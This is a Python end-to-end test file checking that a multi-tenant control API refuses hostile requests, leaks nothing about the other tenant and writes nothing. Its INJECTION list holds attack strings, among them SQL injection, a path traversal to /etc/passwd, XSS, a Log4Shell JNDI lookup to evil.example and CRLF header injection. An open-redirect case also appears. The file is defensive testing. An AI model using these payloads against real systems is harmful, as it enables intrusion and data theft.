"""Hostile requests to the control API through the local runtime's Lambda Invoke API.

Two accounts, each with a location installed through an install link. Every request below is refused
with its op's error (`{code, message, retryable}`), names no value it was sent and nothing about the
other tenant, and the whole run leaves everything as it was: both sandboxes, every table, Secrets
Manager, every queue (dead-letter queues included) and no run of a queue-driven function.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from botocore.exceptions import ClientError
from e2e_helpers import Tenants, assert_nothing_written, install_two_tenants, new_id, world_snapshot
from rankr_ghl_tools.installs import CONTROL_ALIAS_OUTPUT, control_call

pytestmark = [pytest.mark.e2e, pytest.mark.integration]

INJECTION = [
    "acct' OR '1'='1",
    'x"}, {"op": "connection.link"',
    "acct\r\nX-Injected: 1",
    "../../etc/passwd",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "loc; DROP TABLE connections",
    "%00%0d%0a",
    "\u202eevil",
]

# Every op that names a location, with what else it needs to be valid.
LOCATION_OPS: dict[str, dict[str, Any]] = {
    "connection.get": {},
    "connection.link": {},
    "connection.disconnect": {},
    "logs.query": {},
    "test_transfer": {"ghlContactId": "c1"},
    "mapping.get": {},
    "mapping.put": {"document": {}},
    "reconcile.start": {"mode": "full"},
    "reconcile.status": {},
    "dlq.summary": {},
    "dlq.replay": {"queue": "webhooks"},
}


@pytest.fixture(scope="module")
def tenants(e2e_stack) -> Iterator[Tenants]:
    yield install_two_tenants(e2e_stack, "")


def hostile_cases(t: Tenants) -> list[tuple[str, Any, str]]:
    """(case id, request, the error code it must get)."""
    cases: list[tuple[str, Any, str]] = [
        ("unknown op", {"op": "connections.drop", "rankrAccountId": t.account_a}, "unknown_op"),
        ("no op", {"rankrAccountId": t.account_a, "locationId": t.location_a}, "unknown_op"),
        ("op not a string", {"op": {"$ne": None}, "rankrAccountId": t.account_a}, "unknown_op"),
        ("missing account", {"op": "connections.list"}, "invalid_request"),
        ("empty account", {"op": "connections.list", "rankrAccountId": ""}, "invalid_request"),
        ("account not a string", {"op": "connections.list", "rankrAccountId": ["a"]}, "invalid_request"),
        (
            "extra field",
            {
                "op": "connection.get",
                "rankrAccountId": t.account_a,
                "locationId": t.location_a,
                "as": "admin",
            },
            "invalid_request",
        ),
        (
            "oversized",
            {"op": "install_link", "rankrAccountId": t.account_a, "returnUrl": "https://x/" + "a" * 200_000},
            "invalid_request",
        ),
        ("json array", [{"op": "connections.list", "rankrAccountId": t.account_a}], "invalid_request"),
        ("json string", "connections.list", "invalid_request"),
        ("json null", None, "invalid_request"),
        (
            "apply without its record",
            {
                "op": "test_transfer",
                "rankrAccountId": t.account_a,
                "locationId": t.location_a,
                "direction": "rankr_to_ghl",
                "ghlContactId": "c1",
                "apply": True,
            },
            "invalid_request",
        ),
        (
            "replay of an unknown queue",
            {"op": "dlq.replay", "rankrAccountId": t.account_a, "locationId": t.location_a, "queue": "all"},
            "invalid_request",
        ),
        (
            "open redirect",
            {"op": "install_link", "rankrAccountId": t.account_a, "returnUrl": "https://evil.example/ghl"},
            "return_url_not_allowed",
        ),
        (
            "mapping that does not validate",
            {"op": "mapping.put", "rankrAccountId": t.account_a, "document": {"version": "x"}},
            "invalid_mapping",
        ),
        (
            "unknown claim code",
            {"op": "connection.claim", "rankrAccountId": t.account_a, "code": "ABCDE-FGHJK"},
            "invalid_claim_code",
        ),
    ]
    for op, extra in LOCATION_OPS.items():
        base = {"op": op, **extra}
        # A location of another account, asked by account A; account B's own location, asked by an
        # account that owns nothing; and a location that does not exist: the same answer.
        cases.append(
            (
                f"{op}: another account's location",
                {**base, "rankrAccountId": t.account_a, "locationId": t.location_b},
                "not_found",
            )
        )
        cases.append(
            (
                f"{op}: foreign account",
                {**base, "rankrAccountId": new_id("acctX"), "locationId": t.location_a},
                "not_found",
            )
        )
        cases.append(
            (
                f"{op}: no such location",
                {**base, "rankrAccountId": t.account_a, "locationId": new_id("locNone")},
                "not_found",
            )
        )
    cases.append(
        (
            "apply to another account's location",
            {
                "op": "test_transfer",
                "rankrAccountId": t.account_a,
                "locationId": t.location_b,
                "ghlContactId": "c1",
                "apply": True,
            },
            "not_found",
        )
    )
    cases.append(
        (
            "forced link without being asked by the owner still needs the location",
            {
                "op": "connection.link",
                "rankrAccountId": t.account_a,
                "locationId": new_id("locNone"),
                "force": True,
            },
            "not_found",
        )
    )
    for n, bad in enumerate(INJECTION):
        cases.append(
            (
                f"injection {n} in account",
                {"op": "connections.list", "rankrAccountId": bad},
                "invalid_request",
            )
        )
        cases.append(
            (
                f"injection {n} in location",
                {"op": "connection.get", "rankrAccountId": t.account_a, "locationId": bad},
                "invalid_request",
            )
        )
        cases.append(
            (
                f"injection {n} in record id",
                {
                    "op": "test_transfer",
                    "rankrAccountId": t.account_a,
                    "locationId": t.location_a,
                    "ghlContactId": bad,
                },
                "invalid_request",
            )
        )
        cases.append(
            (
                f"injection {n} in claim code",
                {"op": "connection.claim", "rankrAccountId": t.account_a, "code": bad},
                "invalid_request",
            )
        )
        cases.append(
            (
                f"injection {n} in log cursor",
                {
                    "op": "logs.query",
                    "rankrAccountId": t.account_a,
                    "locationId": t.location_a,
                    "cursor": bad,
                },
                "invalid_request",
            )
        )
    return cases


def test_hostile_control_requests_get_their_error_and_write_nothing(e2e_stack, tenants) -> None:
    stack = e2e_stack
    stack.drain(timeout=60)
    before = world_snapshot(stack)
    cases = hostile_cases(tenants)
    assert len(cases) >= 80
    wrong: list[str] = []
    for case_id, request, code in cases:
        answer = control_call(stack, request)
        error = answer.get("error") or {}
        text = json.dumps(answer)
        if answer.get("ok") is not False or error.get("code") != code:
            wrong.append(f"{case_id}: expected {code}, got {text[:300]}")
        elif set(error) != {"code", "message", "retryable"} or error["retryable"] is not False:
            wrong.append(f"{case_id}: error shape {error}")
        elif tenants.location_b in text or tenants.account_b in text:
            wrong.append(f"{case_id}: the answer names the other tenant")
        elif any(bad in text or json.dumps(bad)[1:-1] in text for bad in INJECTION):
            wrong.append(f"{case_id}: the answer echoes a hostile value")
    assert wrong == [], "\n".join(wrong)
    stack.drain(timeout=60)
    assert_nothing_written(before, world_snapshot(stack), allow_audit_rejections=False)


def test_a_payload_that_is_not_json_is_refused_before_the_function_runs(e2e_stack) -> None:
    stack = e2e_stack

    def runs() -> int:
        pool = stack.service.pools.get("ControlFunction")
        return pool.invocations if pool is not None else 0

    before = runs()
    for payload in (b"{not json", b"\xff\xfe", b'{"op": "connections.list", "rankrAccountId": "a"'):
        with pytest.raises(ClientError) as refused:
            stack.client("lambda").invoke(
                FunctionName=stack.template.outputs[CONTROL_ALIAS_OUTPUT], Payload=payload
            )
        assert refused.value.response["Error"]["Code"] == "InvalidRequestContentException"
    assert runs() == before
